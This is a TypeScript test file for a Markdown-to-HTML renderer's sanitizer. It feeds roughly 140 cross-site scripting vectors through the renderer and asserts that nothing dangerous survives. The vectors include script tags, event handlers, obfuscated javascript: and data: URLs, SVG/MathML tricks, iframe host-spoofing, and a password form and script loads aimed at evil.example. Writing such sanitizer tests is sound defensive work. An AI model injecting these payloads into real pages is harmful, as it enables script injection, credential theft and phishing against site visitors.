import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parseSiteSettings } from '@galley/settings';
import { findDangers, type AdditionalRules } from './fixtures.ts';
import { renderMarkdown } from './render-markdown.ts';

const generous = parseSiteSettings(
  `
html:
  allow:
    - { tag: a, attributes: [data-x, aria-label, hreflang], classes: [button*] }
    - { tag: p, attributes: [align, tabindex], classes: [skip] }
    - { tag: img, attributes: [data-x, aria-hidden], classes: [photo] }
    - { tag: blockquote, attributes: [cite] }
    - { tag: x-chart, attributes: [data-values] }
    - { tag: main }
  embeds: [video.example, "maps.example:8443"]
`,
  'site.yaml',
).html;
const allowedThere: AdditionalRules = {
  elements: ['x-chart', 'main'],
  attributes: ['data-x', 'data-values', 'aria-label', 'aria-hidden', 'hreflang', 'align'],
  classNames: /^(?:button.*|skip|photo)$/,
  frameHosts: ['video.example', 'maps.example:8443'],
};
const renderThere = (body: string) =>
  renderMarkdown(body, { path: 'posts/hostile.md', html: generous }).html;

const frames = [
  '<iframe src="https://video.example/1" onload=alert(1) srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://video.example/1" sandbox="allow-top-navigation allow-scripts"></iframe>',
  '<iframe src="http://video.example/1"></iframe>',
  '<iframe src="https://video.example@evil.example/1"></iframe>',
  '<iframe src="https://video.example.evil.example/1"></iframe>',
  '<iframe src="https://evil.example/https://video.example/"></iframe>',
  '<iframe src="https://video.example:444/1"></iframe>',
  '<iframe src="//video.example/1"></iframe>',
  '<iframe src="/admin/"></iframe>',
  '<iframe src="javascript:alert(1)//https://video.example"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src=" https://video.example/1"><b title="</iframe><script>alert(1)</script>"></iframe>',
  '<iframe src="https://video.example/1"><img src=x onerror=alert(1)></iframe>',
  '<iframe src="https:\\\\video.example\\1" title="&quot;><script>alert(1)</script>"></iframe>',
  '<x-chart data-values="&quot;><script>alert(1)</script>" onclick=alert(1) src=javascript:alert(1)></x-chart>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<main onclick=alert(1) style="position:fixed">x</main>',
];

const render = (body: string) => renderMarkdown(body, { path: 'posts/hostile.md' }).html;

const rawHtml = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script><!--<script></script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x\nonerror\n=\nalert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/png;base64,AAAA" srcset="javascript:alert(1) 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<p class="skip" onclick=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:image/png;base64,AAAA">x</a>',
  '<a href="blob:https://site.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" target=_blank onclick=alert(1)>x</a>',
  '<a href="x" ping="https://evil.example">x</a>',
  '<video src=x onerror=alert(1)><source src="javascript:alert(1)"></video>',
  '<video poster="javascript:alert(1)" controls></video>',
  '<audio src="data:audio/mp3,x" autoplay onplay=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<slot name=x></slot><portal src="javascript:alert(1)"></portal>',
  '<div id="x y" id=ok class="skip masthead note">x</div>',
  '<h2 id="a\'onclick=alert(1)">x</h2>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>',
  '<div datasrc="#x" dataformatas=html contenteditable>x</div>',
  '<p lang="en" accesskey=x tabindex=99 draggable>x</p>',
];

const markdown = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](j&#97;va&Tab;script&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/png;base64,AAAA)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x][1]\n\n[1]: <java&NewLine;script:alert(1)> "t"',
  '[1]\n\n[1]: data:text/html,x',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x][1]\n\n[1]: vbscript:x',
  '![" onerror="alert(1)](x.png)',
  '![x](x.png "\\" onerror=\\"alert(1)")',
  '![x](x.png \'" onerror="alert(1)\')',
  '![x](x.png"onerror="alert(1))',
  '![x](<x.png" onerror="alert(1)>)',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "\\"><script>alert(1)</script>")',
  '[<script>alert(1)</script>](https://a.example)',
  '![<img src=x onerror=alert(1)>](x.png)',
  '![<pre>](x.png) &lt;script&gt; <b onclick=alert(1)>',
  'https://a.example/"onmouseover="alert(1)',
  'www.a.example/<script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '```js onload=alert(1) x="\n</code></pre><script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '# "><script>alert(1)</script>\n\n# \' onclick=alert(1)',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|-|\n| <svg onload=alert(1)> | x |',
  '- [ ] <input onfocus=alert(1)>\n- [x] [y](javascript:alert(1))',
  '> <script>\n> alert(1)\n> </script>',
  '[x]: javascript:alert(1)\n[x]',
  '[a](<javascript:alert(1)> "b") **<a href=javascript:alert(1)>c</a>**',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  '[x][__proto__] [x][constructor]\n\n[__proto__]: javascript:alert(1)\n[constructor]: javascript:alert(1)',
];

describe('hostile documents', () => {
  test.each(rawHtml)('raw HTML comes out harmless: %s', (vector) => {
    expect(findDangers(render(vector))).toEqual([]);
    expect(findDangers(render(`text ${vector} text\n\n${vector}`))).toEqual([]);
  });

  test.each(markdown)('Markdown comes out harmless: %s', (vector) => {
    expect(findDangers(render(vector))).toEqual([]);
    expect(findDangers(render(`${vector} <b>with raw HTML beside it</b>`))).toEqual([]);
  });

  test.each([...rawHtml, ...markdown, ...frames])(
    'comes out harmless where the settings allow much: %s',
    (vector) => {
      expect(findDangers(renderThere(vector), allowedThere)).toEqual([]);
      expect(findDangers(renderThere(`text ${vector} text\n\n${vector}`), allowedThere)).toEqual(
        [],
      );
    },
  );

  test.each([...rawHtml, ...frames])('is text where the settings forbid raw HTML: %s', (vector) => {
    const { html } = renderMarkdown(vector, { path: 'a.md', html: { ...generous, raw: false } });
    expect(findDangers(html)).toEqual([]);
    expect(html).not.toMatch(/<(?!\/?(?:p|em|strong|a|br|code|pre|h\d|del|table|t\w+|div)\b)/);
  });

  test('what the settings allow stays, and a frame is boxed', () => {
    expect(renderThere('<x-chart data-values="1 2" class="x">a</x-chart>')).toBe(
      '<p><x-chart data-values="1 2">a</x-chart></p>\n',
    );
    expect(renderThere('<a href="b" class="button-large other" data-x="y">c</a>')).toContain(
      '<a href="b" class="button-large" data-x="y">',
    );
    expect(
      renderThere('<iframe src="https://video.example/1" width="560" height="315"></iframe>'),
    ).toBe(
      '<iframe src="https://video.example/1" title="video.example" width="560" height="315" loading="lazy" ' +
        'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" ' +
        'allow="fullscreen; picture-in-picture" referrerpolicy="strict-origin-when-cross-origin"></iframe>',
    );
    expect(render('<iframe src="https://video.example/1"></iframe>')).toBe('');
  });

  test('where raw HTML is forbidden it is shown as it was written', () => {
    const shown = (body: string) =>
      renderMarkdown(body, { path: 'a.md', html: { raw: false, allow: [], embeds: [] } }).html;
    expect(shown('a <b>c</b>')).toBe('<p>a &lt;b&gt;c&lt;/b&gt;</p>\n');
    expect(shown('<div>\na\n</div>')).toBe('<p>&lt;div&gt;\na\n&lt;/div&gt;</p>\n');
  });

  test('the inspection itself sees what is dangerous', () => {
    const samples = [
      '<script>',
      '<p style="x">',
      '<a href="java&#10;script:1">',
      '<img src="data:text/html,x">',
    ];
    for (const html of samples) expect(findDangers(html), html).toHaveLength(1);
    for (const html of rawHtml.slice(0, 8)) expect(findDangers(html), html).not.toEqual([]);
  });

  test('no mixture of Markdown and HTML fragments brings anything dangerous out', () => {
    const fragments = [...rawHtml, ...markdown, ...frames].flatMap((vector) =>
      vector.split(/(?<=[<>"'()[\]:=\s])/),
    );
    const text = fc.array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 6 })), {
      maxLength: 14,
    });
    fc.assert(
      fc.property(text, (parts) => {
        const body = parts.join('');
        expect(findDangers(render(body))).toEqual([]);
        expect(
          findDangers(renderMarkdown(body, { path: 'a.md', baseUrl: 'https://a.example/' }).html),
        ).toEqual([]);
        expect(findDangers(renderThere(body), allowedThere)).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  test('without raw HTML the renderer alone writes nothing that is not its own', () => {
    const words = [
      '*',
      '_',
      '`',
      '~~',
      '[',
      '](',
      ')',
      '![',
      '"',
      "'",
      '&',
      '&#58;',
      '\\',
      '|',
      '\n',
      '# ',
      '- ',
    ];
    const fragments = [
      ...words,
      'javascript:',
      'data:',
      'onerror=alert(1)',
      'x',
      '\n\n',
      '|-|-|',
      'https://a.example/',
    ];
    const text = fc.array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 4 })), {
      maxLength: 24,
    });
    fc.assert(
      fc.property(text, (parts) => {
        // Without `<`, only the renderer protects the page.
        const body = parts.join('').replaceAll('<', '');
        expect(findDangers(render(body))).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });
});
